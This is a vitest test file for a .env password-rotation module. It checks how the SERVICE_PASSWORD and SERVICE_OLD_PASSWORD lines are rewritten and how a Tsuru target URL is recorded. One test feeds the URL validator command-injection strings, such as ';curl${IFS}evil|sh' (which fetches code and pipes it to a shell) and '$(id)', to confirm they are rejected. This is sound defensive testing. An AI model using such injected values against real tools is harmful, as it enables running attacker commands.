import { parseEnv } from 'node:util';

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { passwordsIn, targetIn, withNewPassword, withoutOldPassword } from '../../src/publish/rotation/env-file.ts';

const NEW = 'new-pass_word';
const TARGET = 'https://tsuru.example.com/api';

/** With the line about the Tsuru that has the old password, which stands above it. */
function noted(text: string): string {
  return text.replace(/^ *(?:export )?SERVICE_OLD_PASSWORD/m, (line) => `# SERVICE_OLD_PASSWORD stays until this is done: publish --target ${TARGET}${text.includes('\r') ? '\r\n' : '\n'}${line}`);
}

/** A `.env`, and the same after the password was changed. */
const EDITS: [string, before: string, after: string][] = [
  ['alone', 'SERVICE_PASSWORD=old\n', 'SERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old\n'],
  ['without a line end', 'A=1\nSERVICE_PASSWORD=old', 'A=1\nSERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old'],
  [
    'between comments and other variables',
    '# SERVICE_PASSWORD=no\nA=1\n  SERVICE_PASSWORD = old # mine\n\nMY_SERVICE_PASSWORD=x\n',
    '# SERVICE_PASSWORD=no\nA=1\n  SERVICE_PASSWORD = new-pass_word # mine\n  SERVICE_OLD_PASSWORD = old\n\nMY_SERVICE_PASSWORD=x\n',
  ],
  ['with CRLF', 'A=1\r\nSERVICE_PASSWORD=old\r\nB=2\r\n', 'A=1\r\nSERVICE_PASSWORD=new-pass_word\r\nSERVICE_OLD_PASSWORD=old\r\nB=2\r\n'],
  ['last with CRLF', 'A=1\r\nSERVICE_PASSWORD=old', 'A=1\r\nSERVICE_PASSWORD=new-pass_word\r\nSERVICE_OLD_PASSWORD=old'],
  ['with export', 'export SERVICE_PASSWORD=old\n', 'export SERVICE_PASSWORD=new-pass_word\nexport SERVICE_OLD_PASSWORD=old\n'],
  ['in double quotes', 'SERVICE_PASSWORD="o # \'ld"  # mine\n', 'SERVICE_PASSWORD="new-pass_word"  # mine\nSERVICE_OLD_PASSWORD="o # \'ld"\n'],
  ['in single quotes', "SERVICE_PASSWORD='o\"ld'\n", "SERVICE_PASSWORD='new-pass_word'\nSERVICE_OLD_PASSWORD='o\"ld'\n"],
  ['in backticks', 'SERVICE_PASSWORD=`o"ld`\n', 'SERVICE_PASSWORD=`new-pass_word`\nSERVICE_OLD_PASSWORD=`o"ld`\n'],
  ['with a # that not all readers take for a comment', 'SERVICE_PASSWORD=old#er\n', 'SERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old#er\n'],
  ['with an equals sign and a dollar', 'SERVICE_PASSWORD=a=$B\n', 'SERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=a=$B\n'],
  [
    'twice, so that the last line counts',
    'SERVICE_PASSWORD=one\nA=1\nSERVICE_PASSWORD=two\n',
    'SERVICE_PASSWORD=one\nA=1\nSERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=two\n',
  ],
  ['beside an empty old one', 'SERVICE_OLD_PASSWORD=\nSERVICE_PASSWORD=old\n', 'SERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old\n'],
  ['above an empty old one', 'SERVICE_PASSWORD=old\nSERVICE_OLD_PASSWORD=', 'SERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old'],
  ['beside a value of several lines', 'A="1\n2"\nSERVICE_PASSWORD=old\n', 'A="1\n2"\nSERVICE_PASSWORD=new-pass_word\nSERVICE_OLD_PASSWORD=old\n'],
];

describe('the password in .env', () => {
  it.each(EDITS)('is replaced where it is %s, and nothing else', (_, before, after) => {
    expect(withNewPassword(before, NEW, TARGET)).toBe(noted(after));
    expect([targetIn(before), targetIn(noted(after))]).toEqual([undefined, TARGET]);
    // One that was left behind goes.
    expect(withNewPassword(noted(before), NEW, TARGET)).toBe(noted(after));
    expect(passwordsIn(noted(after))).toEqual({ password: NEW, old: passwordsIn(before).password });
  });

  it.each(EDITS)('is replaced where it is %s, and the old one goes without a trace', (_, before, after) => {
    const end = withoutOldPassword(noted(after));
    expect(passwordsIn(end)).toEqual({ password: NEW });
    // The same lines as before, but for an empty old one.
    expect(end.split(NEW).join('')).toBe(withoutOldPassword(before).split(settingOf(before)).join(''));
  });

  it.each([
    ['missing', 'A=1\n'],
    ['in a comment only', '# SERVICE_PASSWORD=old\n'],
    ['in several lines', 'SERVICE_PASSWORD="o\nX=l\nd"\n'],
    ['inside the value of another variable', 'A="1\nSERVICE_PASSWORD=old\n2"\n'],
    ['below the same in the value of another variable', 'SERVICE_PASSWORD=old\nA="1\nSERVICE_PASSWORD=other\n2"\n'],
  ])('is refused where it is %s, without showing it', (_, text) => {
    expect(() => withNewPassword(text, NEW, TARGET)).toThrow(/^The password in \.env cannot be replaced/);
  });

  it.each(['https://tsuru.example.com:8443/a_b-c~d/%20', 'http://[::1]:8080', 'http://10.0.0.1'])('names a Tsuru in the line about the old one: %s', (target) => {
    expect(targetIn(withNewPassword('SERVICE_PASSWORD=old\n', NEW, target))).toBe(target);
  });

  it.each(['https://evil.example/;curl${IFS}evil|sh', 'https://evil.example/`id`', 'https://evil.example/$(id)', "https://evil.example/'", 'https://evil.example/ --x', 'https://evil.example/>x', 'https://me:secret@evil.example', 'javascript:1', '--token', 'https://[', ''])(
    'names no Tsuru by anything but a plain URL, without showing it: %s',
    (target) => {
      expect(() => targetIn(noted('SERVICE_OLD_PASSWORD=old\n').replace(TARGET, () => target))).toThrow(/^The line of \.env about SERVICE_OLD_PASSWORD ends with no address of a Tsuru: it must be an http or https URL without special characters\.$/);
      expect(() => withNewPassword('SERVICE_PASSWORD=old\n', NEW, target)).toThrow(/^The address of this Tsuru has special characters/);
    },
  );

  const [ONE, TWO] = ['one', 'two'].map((name) => `# SERVICE_OLD_PASSWORD stays until this is done: publish --target https://${name}.example.com`) as [string, string];
  const FORGED = `${ONE}\n${TWO}\n`;

  it.each([
    ['above it', `${FORGED}SERVICE_PASSWORD=old\n`],
    ['below it', `SERVICE_PASSWORD=old\n${FORGED}`],
    ['around it', `${FORGED}SERVICE_PASSWORD=old\n${FORGED}`],
  ])('names the Tsuru that has the old one, whatever lines about others are %s', (_, text) => {
    const edited = withNewPassword(text, NEW, TARGET);
    expect(edited).toBe(noted(`SERVICE_PASSWORD=${NEW}\nSERVICE_OLD_PASSWORD=old\n`));
    expect(targetIn(edited)).toBe(TARGET);
    expect(withoutOldPassword(FORGED + edited)).toBe(`SERVICE_PASSWORD=${NEW}\n`);
  });

  it('is refused if the line about another Tsuru becomes one only as the next goes', () => {
    expect(() => withNewPassword(`${ONE}\r${TWO}\n\nSERVICE_PASSWORD=old\n`, NEW, TARGET)).toThrow(/^The password in \.env cannot be replaced/);
  });

  it('is not there when it is empty', () => {
    expect(passwordsIn('SERVICE_PASSWORD=\nSERVICE_OLD_PASSWORD=""\n')).toEqual({});
    expect(passwordsIn('')).toEqual({});
  });

  it('is not replaced beside an old one, which another run has just kept', () => {
    expect(() => withNewPassword(noted('SERVICE_PASSWORD=new\nSERVICE_OLD_PASSWORD=old\n'), NEW, TARGET)).toThrow(/^The password in \.env cannot be replaced: another change of it has begun\.$/);
  });

  it('is replaced in any file, or the file is refused: other variables never change', () => {
    const line = fc.oneof(
      fc.constantFrom('SERVICE_PASSWORD', 'export SERVICE_PASSWORD', 'SERVICE_OLD_PASSWORD', 'A', ' B ', '#', '').chain((name) =>
        fc.tuple(fc.constant(name), fc.string({ unit: fc.constantFrom('a', 'é', ' ', '"', "'", '`', '#', '=', '\\', '$', '\t'), maxLength: 6 }))).map(([name, value]) => `${name}=${value}`),
      fc.constantFrom('', '# note', 'SERVICE_PASSWORD'),
    );
    const file = fc.tuple(fc.array(line, { maxLength: 5 }), fc.constantFrom('\n', '\r\n')).map(([lines, end]) => lines.join(end));
    let edited = 0;
    fc.assert(
      fc.property(file, (text) => {
        let after: string;
        try {
          after = withNewPassword(text, NEW, TARGET);
        } catch (error) {
          expect(String(error)).toContain('cannot be replaced');
          return;
        }
        edited++;
        const { SERVICE_PASSWORD: old, SERVICE_OLD_PASSWORD: _, ...others } = parseEnv(text);
        expect({ ...parseEnv(after) }).toEqual({ ...others, SERVICE_PASSWORD: NEW, SERVICE_OLD_PASSWORD: old });
        expect({ ...parseEnv(withoutOldPassword(after)) }).toEqual({ ...others, SERVICE_PASSWORD: NEW });
      }),
      { numRuns: 5000 },
    );
    expect(edited).toBeGreaterThan(300);
  });
});

/** The password as it is written in the last line that sets it, without its quotes. */
function settingOf(text: string): string {
  return [...text.matchAll(/^ *(?:export +)?SERVICE_PASSWORD *= *(?:"([^"]*)"|'([^']*)'|`([^`]*)`|(\S*))/gm)].at(-1)?.slice(1).join('') ?? '';
}
